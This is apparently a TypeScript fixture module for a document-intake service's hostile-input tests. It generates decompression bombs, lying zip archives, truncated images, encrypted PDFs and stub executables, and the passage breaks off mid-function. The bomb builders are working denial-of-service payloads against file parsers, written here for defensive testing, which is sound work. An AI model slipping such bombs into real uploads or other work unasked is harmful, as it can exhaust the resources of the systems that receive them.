/**
 * Broken and malicious documents for the hostile-input suite (`test/hostile-input.test.ts`). Every file is made by
 * code when a test asks for it: nothing is downloaded and nothing binary is committed. Bombs are built from small,
 * repeated deflate segments (see `deflateRuns`), so a file that inflates to gigabytes costs a few megabytes and a
 * few milliseconds to make.
 *
 * Each case says what the person at the other end sees: a specific `UnreadableDocumentError` code, or text (for
 * content that is odd but harmless, such as `<script>` typed into a form, which must come out as plain text).
 */
import { createCipheriv, createHash } from 'node:crypto';
import zlib from 'node:zlib';
import type { ExtractionLimits } from '../../extraction/limits.ts';
import type { UnreadableCode } from '../../extraction/text.ts';
import { makeDocx, makePdf } from './documents.ts';

// ---------------------------------------------------------------------------------------------------------------
// What a case expects
// ---------------------------------------------------------------------------------------------------------------

export interface TextExpectation {
  /** Each string appears, exactly, in the text of the document's pages joined by newlines. */
  contains?: string[];
  /** None of these appears in the text. */
  excludes?: Array<string | RegExp>;
  /** How the text was read. */
  method?: 'text' | 'ocr';
  /** When the text was read by OCR, each of these appears in it (the words a person sees on the page). */
  ocrContains?: string[];
}

/** One document's outcome: refused with a code, or read. */
export type Outcome = { code: UnreadableCode } | { text: TextExpectation };

export interface PartExpectation {
  /** The part's `file`: exact, or a pattern. */
  file?: string | RegExp;
  /** An outcome, or a list of outcomes any of which is right (then the expectation's `why` says why). */
  outcome: Outcome | Outcome[];
}

export type HostileExpectation =
  | Outcome
  /** Used only where more than one outcome is right; `why` says why. Never includes a crash or a hang. */
  | { anyOf: Outcome[]; why: string }
  /** An e-mail: each listed part is matched by some part of the result; `count` is the exact number of parts. */
  | { parts: PartExpectation[]; count?: number; maxCount?: number; noPartContains?: string[]; why?: string };

export interface HostileFile {
  /** Unique, kebab-case: the test's name. */
  name: string;
  /** What the mailroom would have called the file (the name can lie about the content). */
  fileName: string;
  /** What is wrong with it, in a few words. */
  what: string;
  bytes: Uint8Array | (() => Promise<Uint8Array>);
  /** Limits for this case, where a smaller one keeps the suite fast. Absent: the defaults. */
  limits?: Partial<ExtractionLimits>;
  expect: HostileExpectation;
}

export async function bytesOf(file: HostileFile): Promise<Uint8Array> {
  return typeof file.bytes === 'function' ? file.bytes() : file.bytes;
}

// ---------------------------------------------------------------------------------------------------------------
// Small byte helpers
// ---------------------------------------------------------------------------------------------------------------

type Bytes = Uint8Array | string;

/** Strings are written as latin1: one byte per character, as PDF and MIME headers want them. */
function concat(...parts: Bytes[]): Buffer {
  return Buffer.concat(
    parts.map((part) =>
      typeof part === 'string'
        ? Buffer.from(part, 'latin1')
        : Buffer.from(part.buffer, part.byteOffset, part.byteLength),
    ),
  );
}

const utf8 = (text: string) => Buffer.from(text, 'utf8');
const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex').toUpperCase();

/** Deterministic pseudo-random bytes (mulberry32): the same seed gives the same file on every run. */
export function seededBytes(length: number, seed: number): Buffer {
  let state = seed >>> 0;
  const out = Buffer.alloc(length);
  for (let i = 0; i < length; i++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[i] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return out;
}

function u16(value: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(value);
  return b;
}
function u32(value: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(value >>> 0);
  return b;
}
function u32be(value: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(value >>> 0);
  return b;
}

// ---------------------------------------------------------------------------------------------------------------
// Checksums of data too large to hold: CRC-32 and Adler-32 of concatenations, from the parts' sums (as zlib does)
// ---------------------------------------------------------------------------------------------------------------

function gf2Times(matrix: Uint32Array, vector: number): number {
  let sum = 0;
  for (let i = 0; vector !== 0; i++, vector >>>= 1) if (vector & 1) sum ^= matrix[i]!;
  return sum >>> 0;
}
function gf2Square(square: Uint32Array, matrix: Uint32Array): void {
  for (let n = 0; n < 32; n++) square[n] = gf2Times(matrix, matrix[n]!);
}

/** CRC-32 of A+B from crc(A), crc(B) and B's length (zlib's crc32_combine); lengths may exceed 2^32. */
export function crc32Combine(crc1: number, crc2: number, length2: number): number {
  if (length2 <= 0) return crc1 >>> 0;
  const even = new Uint32Array(32);
  const odd = new Uint32Array(32);
  odd[0] = 0xedb88320;
  for (let n = 1, row = 1; n < 32; n++, row <<= 1) odd[n] = row >>> 0;
  gf2Square(even, odd);
  gf2Square(odd, even);
  let crc = crc1 >>> 0;
  let length = length2;
  for (;;) {
    gf2Square(even, odd);
    if (length % 2 === 1) crc = gf2Times(even, crc);
    length = Math.floor(length / 2);
    if (length === 0) break;
    gf2Square(odd, even);
    if (length % 2 === 1) crc = gf2Times(odd, crc);
    length = Math.floor(length / 2);
    if (length === 0) break;
  }
  return (crc ^ crc2) >>> 0;
}

const ADLER_BASE = 65521;

export function adler32(bytes: Uint8Array): number {
  let a = 1;
  let b = 0;
  for (let i = 0; i < bytes.length;) {
    const end = Math.min(bytes.length, i + 5552);
    for (; i < end; i++) {
      a += bytes[i]!;
      b += a;
    }
    a %= ADLER_BASE;
    b %= ADLER_BASE;
  }
  return ((b << 16) | a) >>> 0;
}

/** Adler-32 of A+B from adler(A), adler(B) and B's length (zlib's adler32_combine). */
export function adler32Combine(adler1: number, adler2: number, length2: number): number {
  const rem = length2 % ADLER_BASE;
  let sum1 = adler1 & 0xffff;
  let sum2 = (rem * sum1) % ADLER_BASE;
  sum1 += (adler2 & 0xffff) + ADLER_BASE - 1;
  sum2 += ((adler1 >>> 16) & 0xffff) + ((adler2 >>> 16) & 0xffff) + ADLER_BASE - rem;
  if (sum1 >= ADLER_BASE) sum1 -= ADLER_BASE;
  if (sum1 >= ADLER_BASE) sum1 -= ADLER_BASE;
  if (sum2 >= 2 * ADLER_BASE) sum2 -= 2 * ADLER_BASE;
  if (sum2 >= ADLER_BASE) sum2 -= ADLER_BASE;
  return (sum1 | (sum2 << 16)) >>> 0;
}

// ---------------------------------------------------------------------------------------------------------------
// Deflate of huge, repetitive data without holding it: each segment is compressed once and ends with a full flush
// (byte-aligned, history reset), so the same compressed segment can be repeated; a final empty block closes it.
// ---------------------------------------------------------------------------------------------------------------

/** Bytes as they are, or a unit repeated `times` times. */
export type Run = Uint8Array | { repeat: Uint8Array | string; times: number };

export interface Deflated {
  /** Raw deflate (RFC 1951), ending with a final block. */
  data: Buffer;
  /** Inflated size, CRC-32 and Adler-32 of the inflated data. */
  size: number;
  crc: number;
  adler: number;
}

const SEGMENT_BYTES = 8 * 1024 * 1024;

export function deflateRuns(runs: Run[]): Deflated {
  const out: Buffer[] = [];
  let size = 0;
  let crc = 0;
  let adler = 1;
  const add = (plain: Uint8Array, times: number) => {
    const strategy = isOneByteRun(plain) ? zlib.constants.Z_RLE : zlib.constants.Z_DEFAULT_STRATEGY;
    const compressed = zlib.deflateRawSync(plain, { level: 9, strategy, finishFlush: zlib.constants.Z_FULL_FLUSH });
    const plainCrc = zlib.crc32(plain);
    const plainAdler = adler32(plain);
    for (let i = 0; i < times; i++) {
      out.push(compressed);
      crc = crc32Combine(crc, plainCrc, plain.length);
      adler = adler32Combine(adler, plainAdler, plain.length);
      size += plain.length;
    }
  };
  for (const run of runs) {
    if (run instanceof Uint8Array) {
      if (run.length) add(run, 1);
      continue;
    }
    const unit = typeof run.repeat === 'string' ? utf8(run.repeat) : Buffer.from(run.repeat);
    const perSegment = Math.max(1, Math.floor(SEGMENT_BYTES / unit.length));
    const segments = Math.floor(run.times / perSegment);
    const rest = run.times % perSegment;
    if (segments > 0) add(Buffer.alloc(perSegment * unit.length, unit), segments);
    if (rest > 0) add(Buffer.alloc(rest * unit.length, unit), 1);
  }
  out.push(zlib.deflateRawSync(Buffer.alloc(0)));
  return { data: Buffer.concat(out), size, crc, adler };
}

function isOneByteRun(bytes: Uint8Array): boolean {
  for (let i = 1; i < Math.min(bytes.length, 64); i++) if (bytes[i] !== bytes[0]) return false;
  return true;
}

/** The same data as a zlib stream (RFC 1950), as PDF's FlateDecode and PNG's IDAT want it. */
export function zlibRuns(runs: Run[]): { data: Buffer; size: number } {
  const raw = deflateRuns(runs);
  return { data: concat(Buffer.from([0x78, 0xda]), raw.data, u32be(raw.adler)), size: raw.size };
}

// ---------------------------------------------------------------------------------------------------------------
// Zip (by hand, so that sizes, CRCs and the central directory can lie)
// ---------------------------------------------------------------------------------------------------------------

export interface ZipEntry {
  name: string;
  /** Stored or deflated here; or already deflated (a bomb). */
  data?: Uint8Array | string;
  deflated?: Deflated;
  store?: boolean;
  /** The uncompressed size the headers state, if not the true one. */
  declaredSize?: number;
}

export function makeZip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = utf8(entry.name);
    let method = 8;
    let body: Buffer;
    let crc: number;
    let size: number;
    if (entry.deflated) {
      ({ data: body, crc, size } = entry.deflated);
    } else {
      const plain = typeof entry.data === 'string' ? utf8(entry.data) : Buffer.from(entry.data ?? []);
      crc = zlib.crc32(plain);
      size = plain.length;
      if (entry.store) {
        method = 0;
        body = plain;
      } else body = zlib.deflateRawSync(plain);
    }
    const declared = entry.declaredSize ?? size;
    // version, flags (UTF-8 names), method, time, date 1980-01-01, crc, sizes, name length, extra length
    const common = concat(
      u16(20),
      u16(0x0800),
      u16(method),
      u16(0),
      u16(0x0021),
      u32(crc),
      u32(body.length),
      u32(declared),
      u16(name.length),
      u16(0),
    );
    const local = concat(u32(0x04034b50), common, name);
    centrals.push(concat(u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name));
    locals.push(local, body);
    offset += local.length + body.length;
  }
  const central = Buffer.concat(centrals);
  const end = concat(
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(central.length),
    u32(offset),
    u16(0),
  );
  return Buffer.concat([...locals, central, end]);
}

/** Overwrites a zip's central directory with garbage, keeping the end record that points at it. */
export function corruptCentralDirectory(zip: Uint8Array): Buffer {
  const bytes = Buffer.from(zip);
  const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  if (end < 0) throw new Error('not a zip: no end of central directory record');
  const size = bytes.readUInt32LE(end + 12);
  const start = bytes.readUInt32LE(end + 16);
  seededBytes(size, 0xc0ffee).copy(bytes, start);
  return bytes;
}

// ---------------------------------------------------------------------------------------------------------------
// Word (.docx) parts
// ---------------------------------------------------------------------------------------------------------------

const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

function contentTypes(
  main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  extra = '',
): string {
  return (
    `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`
  );
}

const PACKAGE_RELS =
  `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${escapeXml(text)}</w:t></w:r></w:p>`;
const escapeXml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The opening and closing of a document.xml around its paragraphs. */
const DOCUMENT_OPEN = `${XML_DECLARATION}<w:document xmlns:w="${W_NS}"><w:body>`;
const DOCUMENT_CLOSE = '</w:body></w:document>';

/** A minimal, valid .docx: content types, the package relationship and word/document.xml. */
function minimalDocx(documentXml: ZipEntry, extra: ZipEntry[] = [], types = contentTypes()): Buffer {
  return makeZip([
    { name: '[Content_Types].xml', data: types },
    { name: '_rels/.rels', data: PACKAGE_RELS },
    documentXml,
    ...extra,
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// PDF (by hand, so that the structure can be wrong on purpose)
// ---------------------------------------------------------------------------------------------------------------

export type PdfObject = string | { dict: string; stream: Uint8Array | string; length?: string };

export interface PdfOptions {
  header?: string;
  /** Extra trailer entries. */
  trailer?: string;
  /** Encrypts each stream with its object's key (a security handler). */
  encrypt?: (objectNumber: number, data: Uint8Array) => Uint8Array;
}

/** A PDF of the given objects, numbered 1… in order, object 1 the catalog, with a correct cross-reference table. */
export function buildPdf(objects: PdfObject[], options: PdfOptions = {}): Buffer {
  const chunks: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  const push = (part: Bytes) => {
    const b = concat(part);
    chunks.push(b);
    offset += b.length;
  };
  push(options.header ?? '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
  objects.forEach((object, i) => {
    const number = i + 1;
    offsets.push(offset);
    if (typeof object === 'string') return push(`${number} 0 obj\n${object}\nendobj\n`);
    const plain = typeof object.stream === 'string' ? Buffer.from(object.stream, 'latin1') : object.stream;
    const data = options.encrypt ? options.encrypt(number, plain) : plain;
    push(`${number} 0 obj\n<< ${object.dict} /Length ${object.length ?? data.length} >>\nstream\n`);
    push(data);
    push('\nendstream\nendobj\n');
  });
  const xref = offset;
  push(
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`,
  );
  push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(chunks);
}

/** A PDF literal string in WinAnsi (latin1 for the letters used here: æ, ø, å). */
export function pdfString(text: string): string {
  let out = '(';
  for (const ch of text) {
    const code = ch.charCodeAt(0);
    if (code > 0xff) throw new Error(`pdfString: ${ch} is not latin1`);
    if (ch === '(' || ch === ')' || ch === '\\') out += `\\${ch}`;
    else if (code < 0x20 || code > 0x7e) out += `\\${code.toString(8).padStart(3, '0')}`;
    else out += ch;
  }
  return `${out})`;
}

/** Content operators that show lines of text in font /F1, top left, one under the other. */
export const textOperators = (lines: string[]) =>
  `BT /F1 14 Tf 72 760 Td 20 TL ${lines.map((line) => `${pdfString(line)} Tj T*`).join(' ')} ET`;

const HELVETICA = '/Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding';

interface SimplePdf {
  lines: string[];
  catalog?: string;
  page?: string;
  font?: string;
  /** Objects 6, 7, … */
  extra?: PdfObject[];
  options?: PdfOptions;
}

/** One A4 page with lines of Helvetica: 1 catalog, 2 pages, 3 page, 4 font, 5 content, then `extra` from 6. */
export function simplePdf({ lines, catalog = '', page = '', font = '', extra = [], options }: SimplePdf): Buffer {
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${page} >>`,
      `<< ${HELVETICA} ${font} >>`,
      { dict: '', stream: textOperators(lines) },
      ...extra,
    ],
    options,
  );
}

/** A ToUnicode CMap mapping every one-byte code from 0x20 through the given ranges (each ≤ 256 codes). */
function toUnicodeCMap(ranges: Array<[from: number, to: number, unicode: number]>): string {
  const h2 = (n: number) => n.toString(16).padStart(2, '0').toUpperCase();
  const h4 = (n: number) => n.toString(16).padStart(4, '0').toUpperCase();
  return [
    '/CIDInit /ProcSet findresource begin',
    '12 dict begin',
    'begincmap',
    '/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def',
    '/CMapName /Hostile-UCS def',
    '/CMapType 2 def',
    '1 begincodespacerange',
    '<00> <FF>',
    'endcodespacerange',
    `${ranges.length} beginbfrange`,
    ...ranges.map(([from, to, unicode]) => `<${h2(from)}> <${h2(to)}> <${h4(unicode)}>`),
    'endbfrange',
    'endcmap',
    'CMapName currentdict /CMap defineresource pop',
    'end',
    'end',
  ].join('\n');
}

// --- The standard security handler (PDF 2.0 §7.6.4): RC4 40-bit (R2), AES-128 (R4), AES-256 (R6) ---------------

const PASSWORD_PAD = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
const padPassword = (password: string) => concat(Buffer.from(password, 'latin1'), PASSWORD_PAD).subarray(0, 32);
const md5 = (...parts: Bytes[]) =>
  createHash('md5')
    .update(concat(...parts))
    .digest();
const xorKey = (key: Uint8Array, value: number) => Buffer.from(key.map((byte) => byte ^ value));

export function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const s = new Uint8Array(256).map((_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[k] = data[k]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

function aes(algorithm: string, key: Uint8Array, iv: Uint8Array | null, data: Uint8Array, padding: boolean): Buffer {
  const cipher = createCipheriv(algorithm, key, iv);
  cipher.setAutoPadding(padding);
  return Buffer.concat([cipher.update(data), cipher.final()]);
}

export type SecurityHandler = 'rc4-40' | 'aes-128' | 'aes-256';

interface Security {
  header: string;
  /** The /Encrypt dictionary. */
  dictionary: string;
  trailer: (encryptObject: number) => string;
  encrypt: (objectNumber: number, data: Uint8Array) => Uint8Array;
}

const PERMISSIONS = -44; // print and copy, no changes or notes (a signed 32-bit value)
const FILE_ID = md5('grant-intake hostile-files');

/** A standard security handler with the given passwords; an empty user password opens without asking. */
export function standardSecurity(handler: SecurityHandler, userPassword: string, ownerPassword: string): Security {
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(PERMISSIONS);
  const trailer = (n: number) => `/Encrypt ${n} 0 R /ID [<${hex(FILE_ID)}> <${hex(FILE_ID)}>]`;
  const objectId = (n: number) => Buffer.from([n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, 0, 0]);
  if (handler === 'rc4-40') {
    const owner = rc4(md5(padPassword(ownerPassword)).subarray(0, 5), padPassword(userPassword));
    const key = md5(padPassword(userPassword), owner, permissions, FILE_ID).subarray(0, 5);
    const user = rc4(key, PASSWORD_PAD);
    return {
      header: '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n',
      dictionary: `<< /Filter /Standard /V 1 /R 2 /O <${hex(owner)}> /U <${hex(user)}> /P ${PERMISSIONS} >>`,
      trailer,
      encrypt: (n, data) => rc4(md5(key, objectId(n)).subarray(0, 10), data),
    };
  }
  if (handler === 'aes-128') {
    let ownerHash = md5(padPassword(ownerPassword));
    for (let i = 0; i < 50; i++) ownerHash = md5(ownerHash);
    let owner = rc4(ownerHash, padPassword(userPassword));
    for (let i = 1; i <= 19; i++) owner = rc4(xorKey(ownerHash, i), owner);
    let keyHash = md5(padPassword(userPassword), owner, permissions, FILE_ID);
    for (let i = 0; i < 50; i++) keyHash = md5(keyHash.subarray(0, 16));
    const key = keyHash.subarray(0, 16);
    let user = rc4(key, md5(PASSWORD_PAD, FILE_ID));
    for (let i = 1; i <= 19; i++) user = rc4(xorKey(key, i), user);
    return {
      header: '%PDF-1.6\n%\xe2\xe3\xcf\xd3\n',
      dictionary:
        '<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /Type /CryptFilter /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> ' +
        `/StmF /StdCF /StrF /StdCF /O <${hex(owner)}> /U <${hex(concat(user, Buffer.alloc(16)))}> /P ${PERMISSIONS} >>`,
      trailer,
      encrypt: (n, data) => {
        const iv = md5('iv', String(n));
        return concat(iv, aes('aes-128-cbc', md5(key, objectId(n), 'sAlT'), iv, data, true));
      },
    };
  }
  // R6: the file key is random (here: fixed), wrapped by keys derived from each password (algorithm 2.B).
  const fileKey = createHash('sha256').update('grant-intake file key').digest();
  const salt = (label: string) => createHash('sha256').update(label).digest().subarray(0, 8);
  const zeroIv = Buffer.alloc(16);
  const userBytes = utf8(userPassword).subarray(0, 127);
  const ownerBytes = utf8(ownerPassword).subarray(0, 127);
  const user = concat(hashR6(userBytes, salt('uvs'), Buffer.alloc(0)), salt('uvs'), salt('uks'));
  const userKey = aes('aes-256-cbc', hashR6(userBytes, salt('uks'), Buffer.alloc(0)), zeroIv, fileKey, false);
  const owner = concat(hashR6(ownerBytes, salt('ovs'), user), salt('ovs'), salt('oks'));
  const ownerKey = aes('aes-256-cbc', hashR6(ownerBytes, salt('oks'), user), zeroIv, fileKey, false);
  const perms = aes(
    'aes-256-ecb',
    fileKey,
    null,
    concat(permissions, Buffer.from([0xff, 0xff, 0xff, 0xff]), 'Tadb', 'XXXX'),
    false,
  );
  return {
    header: '%PDF-2.0\n%\xe2\xe3\xcf\xd3\n',
    dictionary:
      '<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /Type /CryptFilter /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> ' +
      `/StmF /StdCF /StrF /StdCF /O <${hex(owner)}> /U <${hex(user)}> /OE <${hex(ownerKey)}> /UE <${hex(userKey)}> /Perms <${hex(perms)}> /P ${PERMISSIONS} >>`,
    trailer,
    encrypt: (n, data) => {
      const iv = md5('iv', String(n));
      return concat(iv, aes('aes-256-cbc', fileKey, iv, data, true));
    },
  };
}

/** Algorithm 2.B of ISO 32000-2: the hash behind R6 passwords. */
function hashR6(password: Uint8Array, salt: Uint8Array, userKey: Uint8Array): Buffer {
  let k = createHash('sha256')
    .update(concat(password, salt, userKey))
    .digest();
  let e: Buffer = Buffer.alloc(0);
  for (let round = 0; round < 64 || e[e.length - 1]! > round - 32; round++) {
    const k1 = Buffer.concat(Array.from({ length: 64 }, () => concat(password, k, userKey)));
    e = aes('aes-128-cbc', k.subarray(0, 16), k.subarray(16, 32), k1, false);
    let sum = 0;
    for (let i = 0; i < 16; i++) sum += e[i]!;
    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3]!)
      .update(e)
      .digest();
  }
  return k.subarray(0, 32);
}

/** A one-page PDF whose content is encrypted with the given handler and passwords. */
export function encryptedPdf(
  handler: SecurityHandler,
  lines: string[],
  userPassword: string,
  ownerPassword: string,
): Buffer {
  const security = standardSecurity(handler, userPassword, ownerPassword);
  return simplePdf({
    lines,
    extra: [security.dictionary],
    options: { header: security.header, trailer: security.trailer(6), encrypt: security.encrypt },
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Images
// ---------------------------------------------------------------------------------------------------------------

function pngChunk(type: string, data: Uint8Array): Buffer {
  const typeAndData = concat(type, data);
  return concat(u32be(data.length), typeAndData, u32be(zlib.crc32(typeAndData)));
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  return pngChunk('IHDR', concat(u32be(width), u32be(height), Buffer.from([bitDepth, colourType, 0, 0, 0])));
}

/** An 8-bit grey PNG of a diagonal pattern, or of noise (which does not compress, so its IDAT is large). */
export function makePng(width: number, height: number, noise = false): Buffer {
  const rows: Buffer[] = [];
  const random = noise ? seededBytes(width * height, 7) : undefined;
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(width + 1);
    for (let x = 0; x < width; x++) row[x + 1] = random ? random[y * width + x]! : ((x + y) % 32) * 8;
    rows.push(row);
  }
  return concat(
    PNG_SIGNATURE,
    ihdr(width, height, 8, 0),
    pngChunk('IDAT', zlib.deflateSync(Buffer.concat(rows))),
    pngChunk('IEND', Buffer.alloc(0)),
  );
}

/** A valid 1-bit PNG of `width`×`height` white pixels: tiny on disk, gigabytes once decoded. */
function pngBomb(width: number, height: number): Buffer {
  const rowBytes = 1 + Math.ceil(width / 8); // filter byte + packed pixels, all zero
  const idat = zlibRuns([{ repeat: Buffer.alloc(1), times: rowBytes * height }]).data;
  const chunks: Buffer[] = [];
  for (let i = 0; i < idat.length; i += 1 << 20) chunks.push(pngChunk('IDAT', idat.subarray(i, i + (1 << 20))));
  return concat(PNG_SIGNATURE, ihdr(width, height, 1, 0), ...chunks, pngChunk('IEND', Buffer.alloc(0)));
}

/** A little-endian TIFF header and first IFD for an uncompressed 8-bit grey image whose strip lies past the end. */
function truncatedTiff(): Buffer {
  const entries: Array<[tag: number, type: number, value: number]> = [
    [256, 3, 1000], // ImageWidth
    [257, 3, 1000], // ImageLength
    [258, 3, 8], // BitsPerSample
    [259, 3, 1], // Compression: none
    [262, 3, 1], // PhotometricInterpretation: black is zero
    [273, 4, 256], // StripOffsets
    [277, 3, 1], // SamplesPerPixel
    [278, 3, 1000], // RowsPerStrip
    [279, 4, 1_000_000], // StripByteCounts
  ];
  const ifd = concat(
    u16(entries.length),
    ...entries.map(([tag, type, value]) =>
      concat(u16(tag), u16(type), u32(1), type === 3 ? concat(u16(value), u16(0)) : u32(value)),
    ),
    u32(0),
  );
  const head = concat('II', u16(42), u32(8), ifd);
  // The strip should be a million bytes from offset 256; the file stops 1 000 bytes into it.
  return concat(head, Buffer.alloc(256 - head.length), seededBytes(1000, 3));
}

const GIF_1X1 = Buffer.from(
  '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
  'hex',
);

function icon(): Buffer {
  const png = makePng(16, 16);
  // ICONDIR (reserved, type 1 = icon, 1 image), one ICONDIRENTRY (16×16, 32 bpp, size, offset 22), then the PNG
  return concat(u16(0), u16(1), u16(1), Buffer.from([16, 16, 0, 0]), u16(1), u16(32), u32(png.length), u32(22), png);
}

function bitmap(): Buffer {
  const width = 4;
  const height = 4;
  const pixels = Buffer.alloc(width * height * 3, 0x80);
  const info = concat(
    u32(40),
    u32(width),
    u32(height),
    u16(1),
    u16(24),
    u32(0),
    u32(pixels.length),
    u32(2835),
    u32(2835),
    u32(0),
    u32(0),
  );
  return concat('BM', u32(14 + info.length + pixels.length), u32(0), u32(14 + info.length), info, pixels);
}

// ---------------------------------------------------------------------------------------------------------------
// Executables and OLE2 compound files
// ---------------------------------------------------------------------------------------------------------------

function elfHeader(): Buffer {
  const header = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(header); // ELF, 64-bit, little-endian, version 1, System V
  header.writeUInt16LE(2, 16); // ET_EXEC
  header.writeUInt16LE(0x3e, 18); // x86-64
  header.writeUInt32LE(1, 20);
  header.writeBigUInt64LE(0x401000n, 24); // entry point
  header.writeBigUInt64LE(64n, 32); // program headers right after
  header.writeUInt16LE(64, 52);
  header.writeUInt16LE(56, 54);
  header.writeUInt16LE(1, 56);
  return concat(header, seededBytes(4096, 11));
}

function peHeader(): Buffer {
  const dos = Buffer.alloc(0x80);
  dos.write('MZ', 0, 'latin1');
  dos.writeUInt32LE(0x80, 0x3c); // e_lfanew
  dos.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  const coff = Buffer.alloc(20);
  coff.writeUInt16LE(0x8664, 0); // AMD64
  coff.writeUInt16LE(1, 2);
  return concat(dos, 'PE\0\0', coff, seededBytes(4096, 12));
}

const FREESECT = 0xffffffff;
const ENDOFCHAIN = 0xfffffffe;
const FATSECT = 0xfffffffd;
const NOSTREAM = 0xffffffff;

/**
 * A valid OLE2 compound file (version 3, 512-byte sectors) holding the given streams, each padded to 4 096 bytes so
 * that it lives in the FAT rather than the mini stream. One FAT sector: up to about 60 KB of streams.
 */
export function compoundFile(streams: Array<{ name: string; data: Uint8Array }>): Buffer {
  const sector = 512;
  const padded = streams.map(({ name, data }) => ({
    name,
    data: concat(data, Buffer.alloc(Math.max(0, 4096 - data.length))),
  }));
  const directorySectors = Math.ceil((padded.length + 1) / 4);
  const fat = new Array<number>(128).fill(FREESECT);
  fat[0] = FATSECT;
  let next = 1;
  const chain = (count: number) => {
    const start = next;
    for (let i = 0; i < count; i++, next++) fat[next] = i === count - 1 ? ENDOFCHAIN : next + 1;
    return start;
  };
  const directoryStart = chain(directorySectors);
  const starts = padded.map((stream) => chain(Math.ceil(stream.data.length / sector)));
  if (next > 128) throw new Error('compoundFile: streams too large for one FAT sector');

  const entry = (name: string, type: number, right: number, child: number, start: number, size: number) => {
    const e = Buffer.alloc(128);
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(e, 0);
    e.writeUInt16LE(name ? encoded.length : 0, 64);
    e[66] = type;
    e[67] = 1; // black
    e.writeUInt32LE(NOSTREAM, 68); // left sibling
    e.writeUInt32LE(right, 72);
    e.writeUInt32LE(child, 76);
    e.writeUInt32LE(start, 116);
    e.writeUInt32LE(size, 120);
    return e;
  };
  // Siblings ordered by name length, then name (upper case): a right-leaning chain is a valid (if unbalanced) tree.
  const order = padded
    .map((_, i) => i)
    .sort(
      (a, b) =>
        padded[a]!.name.length - padded[b]!.name.length ||
        padded[a]!.name.toUpperCase().localeCompare(padded[b]!.name.toUpperCase()),
    );
  const rights = new Array<number>(padded.length).fill(NOSTREAM);
  order.forEach(
    (index, position) => (rights[index] = position + 1 < order.length ? order[position + 1]! + 1 : NOSTREAM),
  );
  const directory = [
    entry('Root Entry', 5, NOSTREAM, order.length ? order[0]! + 1 : NOSTREAM, ENDOFCHAIN, 0),
